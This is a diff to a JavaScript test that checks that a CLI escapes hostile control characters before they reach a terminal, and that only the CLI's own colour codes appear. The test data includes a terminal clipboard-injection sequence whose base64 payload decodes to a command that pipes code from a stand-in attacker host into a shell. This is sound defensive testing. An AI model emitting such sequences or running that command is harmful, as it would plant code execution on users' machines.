@@ -53,9 +53,17 @@ describe('hardening #4 (control characters never reach a terminal)', () => {
     await store.drafts.save(createDraft({ assessment: { ...createAssessment(), summary: `Summary ${HOSTILE}` } }), null);
     await store.close();
     for (const args of [['drafts', 'list'], ['drafts', 'show', 'acme-ops-agent.r1']]) {
-      const tty = captureIo({ tty: true });
+      const tty = captureIo({ tty: true, env: { NO_COLOR: '1' } });
       expect(await main([...args, '--data', data], tty)).toBe(0);
       expect(controlCharacters(tty.out())).toEqual([]);
+      // With color, the only escape sequences on the terminal are the CLI's own colors (SGR).
+      const colored = captureIo({ tty: true });
+      expect(await main([...args, '--data', data], colored)).toBe(0);
+      // eslint-disable-next-line no-control-regex
+      expect(colored.out()).toMatch(/\u001b\[[\d;]+m(Low|Medium|High|Critical|None)\u001b\[0m/);
+      // eslint-disable-next-line no-control-regex
+      expect(controlCharacters(colored.out().replace(/\u001b\[[\d;]+m/g, ''))).toEqual([]);
+      expect(colored.out()).toContain('Evil\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007 Agent');
       expect(tty.out()).toContain('Evil\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007 Agent\\u001b[2J\\u009b31m\\u0085');
       const json = captureIo();
       expect(await main([...args, '--data', data, '--json'], json)).toBe(0);
